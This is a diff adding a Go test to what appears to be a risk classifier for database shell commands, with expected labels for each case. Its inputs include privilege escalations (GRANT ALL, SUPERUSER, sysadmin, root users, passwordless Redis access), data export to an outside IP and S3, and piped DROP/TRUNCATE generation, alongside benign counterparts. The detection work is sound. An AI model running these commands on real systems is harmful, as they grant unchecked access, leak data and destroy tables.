@@ -364,3 +364,29 @@ func TestModels(t *testing.T) {
 		{`atlas schema clean -u postgres://db.acme.com/x`, "DROP SCHEMA elsewhere"},
 	})
 }
+
+// Rights over a whole server, data that leaves it, and statements that one client makes for another.
+func TestBeyondTables(t *testing.T) {
+	check(t, [][2]string{
+		{`mysql -u root -e "GRANT ALL PRIVILEGES ON *.* TO 'a'@'localhost'"`, "ADMIN, GRANT here"},
+		{`mysql -u root -e "GRANT ALL ON shop.* TO 'a'@'%'"`, "ADMIN, GRANT here"},
+		{`mariadb -e "grant select on shop.* to 'a'@'localhost' with grant option"`, "ADMIN, GRANT here"},
+		{`psql -c 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'`, "ADMIN, GRANT here"},
+		{`psql -c 'ALTER ROLE app WITH SUPERUSER'`, "ADMIN, ALTER ROLE here"},
+		{`sqlcmd -S localhost -Q 'ALTER SERVER ROLE sysadmin ADD MEMBER eve'`, "ADMIN, ALTER SERVER here"},
+		{`mongosh admin --eval 'db.createUser({user:"x",pwd:"x",roles:["root"]})'`, "ADMIN, CREATE USER here"},
+		{`redis-cli ACL SETUSER default on nopass '+@all'`, "ADMIN here"},
+		{`clickhouse-client -q "INSERT INTO FUNCTION url('http://203.0.113.5/', 'CSV') SELECT * FROM t"`, "FILE, INSERT here"},
+		{`psql -c "SELECT aws_s3.query_export_to_s3('select 1', 'b')"`, "FILE, SELECT here"},
+		{`duckdb -c "COPY (SELECT 1) TO 's3://b/x.parquet'"`, "FILE, COPY TO here"},
+		{`mysql -e "SELECT CONCAT('DROP TABLE ', t, ';') FROM x" | mysql`, "SELECT here; anything, DROP SCHEMA? here"},
+		{`psql -Atc "select 'truncate '||t from x" | psql`, "SELECT here; anything, TRUNCATE? here"},
+		// These are everyday work.
+		{`mysql -e "GRANT SELECT ON shop.* TO 'a'@'localhost'"`, "GRANT here"},
+		{`psql -c 'GRANT SELECT ON t TO reader'`, "GRANT here"},
+		{`psql -c 'ALTER ROLE app WITH NOSUPERUSER'`, "ALTER ROLE here"},
+		{`psql -c 'CREATE TABLE superuser (id int)'`, "CREATE TABLE here"},
+		{`duckdb -c "COPY (SELECT 1) TO 'x.parquet'"`, "COPY TO here"},
+		{`mongosh app --eval 'db.createUser({user:"x",pwd:"x",roles:["readWrite"]})'`, "CREATE USER here"},
+	})
+}
